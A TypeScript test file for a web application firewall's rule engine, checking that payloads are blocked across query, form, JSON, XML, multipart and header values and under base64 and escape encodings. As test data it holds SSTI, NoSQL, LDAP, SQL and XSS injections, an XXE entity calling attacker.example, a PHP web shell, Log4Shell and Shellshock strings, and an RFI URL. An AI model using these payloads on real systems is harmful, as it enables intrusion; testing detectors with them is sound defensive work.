      it(`blocks ${table.blocked.length} attacks with a ${table.expect} rule`, () => {
        const wrong: string[] = [];
        for (const example of table.blocked) {
          const reason = missReason(requestOf(example, table.place), table.expect);
          if (reason) wrong.push(`${describeExample(example, table.place)} → ${reason}`);
        }
        expect(wrong).toEqual([]);
      });

      it(`passes ${table.passed.length} benign texts with the same words`, () => {
        const wrong: string[] = [];
        for (const example of table.passed) {
          const hit = PL1.match(requestOf(example, table.place));
          if (hit) wrong.push(`${describeExample(example, table.place)} → ${hit.ruleId}`);
        }
        expect(wrong).toEqual([]);
      });
    });
  }

  describe('limits (examples the rules get wrong on purpose or by a known gap)', () => {
    it('each listed example still disagrees: when one starts agreeing, move it into its table', () => {
      const agreeing: string[] = [];
      for (const { table, want, example } of KNOWN) {
        const place = TABLES.find((t) => t.name === table)!.place;
        const blocked = PL1.match(requestOf(example, place)) !== null;
        if (blocked === (want === 'blocked')) agreeing.push(`${table}: ${describeExample(example, place)}`);
      }
      expect(agreeing).toEqual([]);
    });
    it('tuned examples now have the wanted outcome', () => {
      const wrong: string[] = [];
      for (const { table, want, example } of TUNED) {
        const place = TABLES.find((t) => t.name === table)!.place;
        const blocked = PL1.match(requestOf(example, place)) !== null;
        if (blocked !== (want === 'blocked')) wrong.push(`${table}: ${describeExample(example, place)} should be ${want}`);
      }
      expect(wrong).toEqual([]);
    });
    it('texts that once slipped through the fast path are read in full', () => {
      expect(ONCE_INERT.filter(({ text }) => isInert(text)).map((k) => k.text)).toEqual([]);
    });
    it('base64 carriers below the minimum length are not decoded', () => {
      for (const attack of KNOWN_SHORT_CARRIERS) expect(mayBeBase64Text(Buffer.from(attack).toString('base64').replace(/=+$/, ''))).toBe(false);
    });
  });
});

// --- placements ----------------------------------------------------------------------------------

/** One payload per new class, and the prefix of the rules that must block it. */
const REPRESENTATIVES: readonly { name: string; expect: string; payload: string; pathTarget: boolean }[] = [
  { name: 'ssti', expect: 'ssti.', payload: "{{ ''.__class__.__mro__[1].__subclasses__() }}", pathTarget: true },
  { name: 'nosqli', expect: 'nosqli.', payload: '{"$gt": ""}', pathTarget: true },
  { name: 'ldap', expect: 'ldap.', payload: '*)(uid=*))(|(uid=*', pathTarget: true },
  { name: 'xxe', expect: 'xxe.', payload: '<!DOCTYPE r [<!ENTITY x SYSTEM "http://attacker.example/x">]><r>&x;</r>', pathTarget: false },
  { name: 'crlf', expect: 'crlf.', payload: '\r\nSet-Cookie: sid=attacker', pathTarget: true },
  { name: 'mail', expect: 'mail.', payload: 'jane@example.com\r\nBcc: victim@example.org', pathTarget: true },
  { name: 'java', expect: 'java.', payload: 'org.apache.commons.collections.functors.InvokerTransformer', pathTarget: true },
  { name: 'php', expect: 'php.', payload: "<?php system($_GET['c']); ?>", pathTarget: true },
  { name: 'rfi', expect: 'rfi.', payload: 'http://66.240.183.75/crash.php', pathTarget: false },
];

/** `\uXXXX` for every character but letters, digits and spaces, as a payload hidden in a JS string is written. */
const jsEscaped = (text: string): string => text.replace(/[^A-Za-z0-9 ]/g, (ch) => `\\u${ch.charCodeAt(0).toString(16).padStart(4, '0')}`);

const ENCODINGS: readonly { name: string; encode: (payload: string) => string }[] = [
  { name: 'plain', encode: (p) => p },
  { name: 'base64', encode: (p) => Buffer.from(p).toString('base64') },
  { name: 'base64 unpadded', encode: (p) => Buffer.from(p).toString('base64').replace(/=+$/, '') },
  { name: 'base64url', encode: (p) => Buffer.from(p).toString('base64url') },
  { name: '\\uXXXX escapes', encode: jsEscaped },
];

describe('placements', () => {
  for (const { name, expect: prefix, payload, pathTarget } of REPRESENTATIVES) {
    describe(name, () => {
      for (const encoding of ENCODINGS) {
        it(`${encoding.name}: blocked in a query, form, JSON, XML and multipart value and a free-text header`, () => {
          const value = encoding.encode(payload);
          if (encoding.name !== 'plain') expect(value).not.toBe(payload);
          const wrong: string[] = [];
          for (const place of INPUT_PLACES) {
            const reason = missReason(buildRequest(specFor(place, value)), prefix);
            if (reason) wrong.push(`${place} → ${reason}`);
          }
          expect(wrong).toEqual([]);
        });
      }

      it('blocked when a JSON body writes the string with \\uXXXX escapes (decoded by the JSON parser)', () => {
        const json = `{"item":{"note":"${jsEscaped(payload)}"}}`;
        expect(JSON.parse(json).item.note).toBe(payload);
        expect(missReason(buildRequest({ path: '/api/items', json }), prefix)).toBeNull();
      });

      if (pathTarget) {
        it('blocked as a base64url path segment', () => {
          const segment = Buffer.from(payload).toString('base64url');
          expect(missReason(buildRequest({ path: `/api/render/${segment}` }), prefix)).toBeNull();
        });
      }
    });
  }
});

// --- the header target ---------------------------------------------------------------------------

describe('header target', () => {
  const base64Of = (text: string): string => Buffer.from(text).toString('base64');
  // The brief's credentials (`'1=1` closed by the query's own quote) and a variant every SQL rule reads.
  const credentials = ["user:p'or'1=1", "user:p'or'1'='1"];

  it('ignores headers whose grammar is known: Accept, Sec-CH-UA, Authorization', () => {
    for (const secret of credentials) {
      const request = buildRequest({
        path: '/account',
        headers: {
          accept: 'text/html,application/xhtml+xml,*/*;q=0.8',
          'sec-ch-ua': '"Chromium";v="124", "Not.A/Brand";v="24"',
          'sec-ch-ua-platform': '"Windows"',
          authorization: `Basic ${base64Of(secret)}`,
        },
      });
      expect(PL1.match(request)?.ruleId ?? null, secret).toBeNull();
    }
  });

  it('reads the same SQL injection in X-Forwarded-For, plain and base64', () => {
    const secret = credentials[1]!;
    for (const header of [secret, base64Of(secret)]) {
      expect(PL1.match(buildRequest({ headers: { 'x-forwarded-for': header } }))?.ruleId, header).toMatch(/^sqli\./);
      // The same text in Authorization is not read: the header is what makes the difference.
      expect(PL1.match(buildRequest({ headers: { authorization: `Basic ${header}` } }))?.ruleId ?? null, header).toBeNull();
    }
  });

  it('reads made-up headers and every value of a repeated header', () => {
    expect(PL1.match(buildRequest({ headers: { 'x-foo': '${jndi:ldap://x.example/a}' } }))?.ruleId).toBe('cmdi.jndi_lookup');
    const repeated = buildRequest({ path: '/' });
    // IncomingHttpHeaders may hold an array (Node keeps some repeated headers apart): each element is read.
    repeated.headers['x-forwarded-for'] = ['10.0.0.1', '() { :; }; /bin/id'];
    expect(PL1.match(repeated)?.ruleId).toBe('cmdi.shellshock');
  });
});

// --- fast path and base64 ------------------------------------------------------------------------


function randomOf(next: () => number, alphabet: string, length: number): string {
  let out = '';
  for (let i = 0; i < length; i++) out += alphabet[Math.floor(next() * alphabet.length)];
  return out;
}

const HEX = '0123456789abcdef';
const B64URL = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';

function hexIds(next: () => number): string[] {
  const out: string[] = [];
  for (const length of [16, 24, 32, 40, 64]) for (let i = 0; i < 200; i++) out.push(randomOf(next, HEX, length));
  return out;
}

function uuids(next: () => number): string[] {
  const out: string[] = [];
  for (let i = 0; i < 500; i++) {
    const h = randomOf(next, HEX, 32);
    out.push(`${h.slice(0, 8)}-${h.slice(8, 12)}-4${h.slice(13, 16)}-${'89ab'[Math.floor(next() * 4)]}${h.slice(17, 20)}-${h.slice(20)}`);
  }
  return out;
}

function jwts(next: () => number): string[] {
  const out: string[] = [];
  for (let i = 0; i < 200; i++) {
    const header = Buffer.from(JSON.stringify({ alg: 'HS256', typ: 'JWT' })).toString('base64url');
    const claims = Buffer.from(JSON.stringify({ sub: randomOf(next, HEX, 12), iat: 1700000000 + i })).toString('base64url');
    out.push(`${header}.${claims}.${randomOf(next, B64URL, 43)}`);
  }
  return out;
}

const LOWER_CASE_WORDS = [
  'cabbage', 'deadbeef', 'cafebabe', 'facade', 'background', 'database', 'feedback', 'accepted', 'abcdefgh', 'beefcake',
  'defaced', 'baggage', 'checkout', 'dashboard', 'category', 'available', 'download', 'settings', 'calendar', 'faceache',
];

/** Attack texts sent as values: the placement payloads and the tables' string examples in value places. */
function valueAttacks(): string[] {
  const out = new Set(REPRESENTATIVES.map((r) => r.payload));
  for (const table of TABLES) {
    if (table.place === 'user_agent') continue;
    for (const example of table.blocked) if (typeof example === 'string') out.add(example);
  }
  // Base64 carries bytes: only ASCII payloads decode back to the same text.
  return [...out].filter((text) => /^[\x00-\x7f]*$/.test(text));
}

describe('fast path and base64 carriers', () => {
  const value = programFor(1).targets.value;

  it('never skips base64 (padded, unpadded, url) of an attack, and finds in it what the attack shows', () => {
    const wrong: string[] = [];
    for (const attack of valueAttacks()) {
      const plain = value.evaluateFully(attack);
      for (const encoding of ENCODINGS.slice(1, 4)) {
        const carried = encoding.encode(attack);
        if (KNOWN_SHORT_CARRIERS.includes(attack) && carried.length < 8) continue;
        if (!mayBeBase64Text(carried) || isInert(carried)) wrong.push(`${encoding.name} ${JSON.stringify(attack)}: skipped`);
        else if (base64Text(carried) !== attack) wrong.push(`${encoding.name} ${JSON.stringify(attack)}: decodes to ${JSON.stringify(base64Text(carried))}`);
        else if (!plain.every((rule) => value.evaluate(carried).includes(rule))) wrong.push(`${encoding.name} ${JSON.stringify(attack)}: loses rules`);
      }
    }
    expect(wrong).toEqual([]);
  });

  it("reads base64 sent unencoded in a query string, its '+' turned to spaces, a trailing one included", () => {
    const carried = Buffer.from('"Onx=() onMouSeoVer=prompt(1)>').toString('base64');
    expect(carried.endsWith('+')).toBe(true);
    const asQuery = carried.replaceAll('+', ' ');
    expect(isInert(asQuery)).toBe(false);
    expect(PL1.match(buildRequest({ path: '/', query: `q=${carried}` }))?.ruleId).toBe('xss.event_handler');
  });

  it('decodes random hex ids, UUIDs, JWT-like tokens and lower-case words to nothing', () => {
    const next = seededRandom(0x5eed);
    const ids = hexIds(next);
    const uuidList = uuids(next);
    const tokens = jwts(next);
    const decoded: string[] = [];
    for (const text of [...ids, ...uuidList, ...tokens, ...LOWER_CASE_WORDS, ...LOWER_CASE_WORDS.map((w) => w.repeat(2))]) {
      if (base64Text(text) !== null) decoded.push(text);
    }
    expect(decoded).toEqual([]);
    // Neither costs the fast path anything: UUIDs and words never look like base64 text.
    for (const text of [...uuidList, ...LOWER_CASE_WORDS]) expect(mayBeBase64Text(text), text).toBe(false);
    expect(uuidList.every(isInert)).toBe(true);
    expect(ids.filter(isInert).length).toBeGreaterThanOrEqual(ids.length * 0.99);
  });

  it("skips only texts no rule matches, among this file's examples and their squeezed words", () => {
    const programs = programFor(1).targets;
    const texts = new Set<string>();
    const add = (text: string): void => {
      texts.add(text);
      texts.add(squeeze(text));
    };
    const examples: { example: Example; place: Place }[] = [
      ...TABLES.flatMap((table) => [...table.blocked, ...table.passed].map((example) => ({ example, place: table.place }))),
      ...[...KNOWN, ...TUNED].map(({ table, example }) => ({ example, place: TABLES.find((t) => t.name === table)!.place })),
    ];
    for (const { example, place } of examples) {
      if (typeof example === 'string') add(example);
      else if ('text' in example) add(example.text);
      // What the engine reads of the request: field values and names as sent, header values.
      const request = requestOf(example, place);
      for (const field of request.fields) {
        add(field.value);
        add(field.raw);
      }
      for (const header of Object.values(request.headers)) if (typeof header === 'string') add(header);
    }
    const wrong: string[] = [];
    for (const text of texts) {
      if (!isInert(text)) continue;
      const hits = new Set([programs.value, programs.name, programs.header].flatMap((program) => [...program.evaluateFully(text)]));
      if (hits.size > 0) wrong.push(`${JSON.stringify(text)} → ${[...hits].map((i) => RULE_DEFINITIONS[i]!.id).join(', ')}`);
    }
    expect(wrong).toEqual([]);
  });
});
